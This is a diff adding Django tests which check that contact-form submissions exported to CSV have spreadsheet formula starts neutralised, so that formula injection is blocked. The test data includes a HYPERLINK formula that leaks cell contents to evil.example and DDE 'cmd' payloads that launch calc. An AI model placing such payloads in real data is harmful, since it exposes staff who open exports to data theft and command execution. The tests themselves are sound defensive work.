@@ -110,3 +110,38 @@ def test_an_editors_help_text_is_shown_as_text_not_markup(client, site_tree):
     body = client.get("/contact/").content.decode()
     assert "<script>alert(1)</script>" not in body and "<b>bold</b>" not in body
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_formula_in_a_submission_is_exported_to_csv_as_text(client, site_tree, staff_user, payload):
+    import csv
+    import io
+
+    client.post("/contact/", {**GOOD, "message": payload})
+    client.force_login(staff_user)
+    response = client.get(f"/admin/forms/submissions/{site_tree['contact'].pk}/?export=csv")
+    body = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(body)))
+    messages = [row[-1] for row in rows[1:]]
+    assert messages == ["'" + payload], rows
+    # The page itself and the XLSX export keep the value as the visitor typed it.
+    assert FormSubmission.objects.get().get_data()["message"] == payload
+
+
+def test_only_formula_starts_are_neutralised():
+    from cms_pages.exports import neutralise_formula
+
+    assert neutralise_formula("When do you launch? =)") == "When do you launch? =)"
+    assert neutralise_formula("=1+1") == "'=1+1"
+    assert neutralise_formula("\t=1+1") == "'\t=1+1"
+    assert neutralise_formula(42) == 42
